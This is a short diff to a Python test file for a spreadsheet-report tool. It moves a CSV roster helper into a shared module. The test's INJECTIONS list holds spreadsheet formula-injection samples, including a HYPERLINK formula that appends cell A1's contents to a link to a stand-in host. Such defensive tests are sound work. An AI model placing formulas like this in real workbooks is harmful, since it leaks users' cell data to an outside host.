@@ -25,7 +25,7 @@ from nianbao.operations.check import CheckOptions, check_file
 from nianbao.operations.generate import MANIFEST_NAME, generate
 from nianbao.operations.merge import STATUS_SHEET, merge
 from tests.figures import consistent_inputs
-from tests.workbooks import filled_workbook
+from tests.workbooks import filled_workbook, write_roster
 
 INJECTIONS = [
     '=HYPERLINK("http://x.example/?q="&A1,"点此")',
@@ -37,12 +37,6 @@ INJECTIONS = [
     "_x0041_ 与 _x000d_",  # would read back as "A" and a carriage return if not escaped
 ]
 UNITS = [Unit(f"U{i}", name) for i, name in enumerate(INJECTIONS)]
-
-
-def write_roster(path: Path, units: list[Unit]) -> Path:
-    with path.open("w", encoding="utf-8", newline="") as f:
-        csv.writer(f).writerows([["单位编码", "单位名称"], *[[u.unit_id, u.unit_name] for u in units]])
-    return path
 
 
 def formulas(data: bytes) -> list[str]:
